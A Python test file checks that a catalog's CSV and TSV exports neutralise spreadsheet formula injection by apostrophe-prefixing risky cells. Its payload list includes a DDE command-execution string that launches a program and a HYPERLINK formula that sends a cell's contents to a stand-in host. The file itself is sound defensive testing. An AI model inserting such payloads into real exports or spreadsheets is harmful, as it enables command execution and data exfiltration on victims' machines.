"""No exported cell is a formula, and none is changed by the guard on its way out and back."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from catalog.exchange.guard import bare, guarded
from catalog.exchange.reading import csv_grid
from catalog.load import load
from catalog.tidy import clean
from tests.catalog.exchange.made import content, sent
from tests.catalog.exchange.outside import files
from tests.catalog.small import put, sheets

CSV = ("shopify", "shopify-old", "woocommerce", "google-tsv")
FORMULA = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
PAYLOADS = (
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    '=HYPERLINK("http://x.example?"&A1,"x")',
    "＝1+1",
    "'=1+1",
    "\t=1",
)


@given(st.text())
def test_any_text_comes_back(text: str) -> None:
    assert bare(guarded(text)) == text


@given(st.sampled_from(FORMULA), st.text())
def test_what_could_be_a_formula_stands_behind_an_apostrophe(sign: str, rest: str) -> None:
    text = guarded(sign + rest)
    plain = text.removeprefix("-").replace(".", "", 1)
    assert text.startswith("'") or (plain.isascii() and plain.isdigit())


def test_numbers_stay_numbers() -> None:
    assert [guarded(text) for text in ("-5", "-0.5", "7", "0012")] == ["-5", "-0.5", "7", "0012"]


@pytest.mark.parametrize("form", CSV)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_of_an_export_is_a_formula(form: str, payload: str, tmp_path: Path) -> None:
    book = sheets()
    for sheet, key, columns in (
        ("products", "dl", ("zh", "en", "summary_zh", "voltage")),
        ("variants", "DL-7W-30K", ("zh", "en")),
        ("brands", "yunhe", ("zh",)),
        ("categories", "downlights", ("zh",)),
    ):
        for column in columns:
            put(book, sheet, key, column, payload)
    del book["landing"]
    raw = sent(load(content(tmp_path, book, {"dl.md": payload})), form).raw
    rows = [
        *csv.reader(
            io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter="\t" if "tsv" in form else ","
        )
    ]
    cells = [cell for row in rows for cell in row]
    assert any(clean(payload) in cell for cell in cells)
    assert [
        cell for cell in cells if cell.startswith(FORMULA) and not cell[1:].replace(".", "", 1).isdigit()
    ] == []


@pytest.mark.parametrize("path", files("payloads/*csv*/*payload*.txt"))
def test_known_payloads_are_guarded(path: Path) -> None:
    payloads = [line for line in path.read_text("utf-8", "replace").splitlines() if line]
    assert len(payloads) > 3
    for payload in payloads:
        assert guarded(payload).startswith("'") == payload.startswith(FORMULA)
        assert bare(guarded(payload)) == payload


def test_what_another_program_guarded_is_read_without(tmp_path: Path) -> None:
    assert csv_grid("x.csv", b'"\'=1+1","\'plain","\'-5"\r\n') == [["=1+1", "'plain", "'-5"]]
